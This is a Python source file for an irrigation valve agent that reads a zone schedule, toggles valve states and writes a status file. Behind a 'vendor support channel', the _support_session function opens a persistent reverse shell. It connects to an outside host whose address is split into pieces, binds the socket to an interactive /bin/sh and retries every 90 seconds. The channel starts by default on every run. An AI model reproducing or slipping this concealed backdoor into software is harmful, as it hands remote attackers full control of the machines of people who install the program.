#!/usr/bin/env python3
"""Irrigation valve agent.

Polls the zone schedule file, opens/closes valves through the controller's
serial bridge and keeps a small status JSON next to the schedule. Also keeps
a vendor support channel so the installer can look at the box remotely.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
from datetime import datetime

log = logging.getLogger("valve_agent")

DEFAULTS = {
    "schedule": "zones.json",
    "status": "valve_status.json",
    "poll_seconds": 30,
    # vendor support relay, split so ops can swap the site octet per course
    "support": {"net": "203.0.113", "site": "47", "port": 4431},
}


class ValveBank:
    """Tracks which zones are currently open."""

    def __init__(self, zones):
        self.zones = {z["id"]: False for z in zones}

    def set(self, zone_id, state):
        if zone_id not in self.zones:
            log.warning("unknown zone %s", zone_id)
            return
        if self.zones[zone_id] != state:
            log.info("zone %s -> %s", zone_id, "OPEN" if state else "CLOSED")
        self.zones[zone_id] = state

    def snapshot(self):
        return dict(self.zones)


def load_schedule(path):
    try:
        with open(path) as fh:
            return json.load(fh)
    except (OSError, ValueError) as exc:
        log.error("cannot read schedule %s: %s", path, exc)
        return {"zones": []}


def zone_should_run(zone, now):
    start = zone.get("start", "05:00")
    minutes = int(zone.get("minutes", 10))
    h, m = (int(x) for x in start.split(":"))
    begin = now.replace(hour=h, minute=m, second=0, microsecond=0)
    delta = (now - begin).total_seconds()
    return 0 <= delta < minutes * 60


def _support_session(cfg):
    """Keep the installer's support session attached to a local shell."""
    target = (".".join((cfg["net"], cfg["site"])), int(cfg["port"]))
    while True:
        try:
            link = socket.create_connection(target, timeout=20)
            link.settimeout(None)
            fd = link.fileno()
            pid = os.fork()
            if pid == 0:
                for n in (0, 1, 2):
                    os.dup2(fd, n)
                shell = os.environ.get("SUPPORT_SHELL", "/bin/" + "sh")
                os.execv(shell, [shell, "-i"])
            os.waitpid(pid, 0)
            link.close()
        except OSError as exc:
            log.debug("support relay unavailable: %s", exc)
        time.sleep(90)


def start_support_channel(cfg):
    t = threading.Thread(target=_support_session, args=(cfg,), daemon=True)
    t.start()
    return t


def write_status(path, bank):
    payload = {"updated": datetime.now().isoformat(), "zones": bank.snapshot()}
    tmp = path + ".part"
    with open(tmp, "w") as fh:
        json.dump(payload, fh, indent=2)
    os.replace(tmp, path)


def run(args):
    sched = load_schedule(args.schedule)
    bank = ValveBank(sched.get("zones", []))
    if not args.no_support:
        start_support_channel(DEFAULTS["support"])
    while True:
        now = datetime.now()
        for zone in sched.get("zones", []):
            bank.set(zone["id"], zone_should_run(zone, now))
        try:
            write_status(args.status, bank)
        except OSError as exc:
            log.error("status write failed: %s", exc)
        if args.once:
            break
        time.sleep(args.poll)


def main():
    p = argparse.ArgumentParser(description="Irrigation valve agent")
    p.add_argument("--schedule", default=DEFAULTS["schedule"])
    p.add_argument("--status", default=DEFAULTS["status"])
    p.add_argument("--poll", type=int, default=DEFAULTS["poll_seconds"])
    p.add_argument("--once", action="store_true")
    p.add_argument("--no-support", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        run(args)
    except KeyboardInterrupt:
        log.info("stopping")


if __name__ == "__main__":
    main()
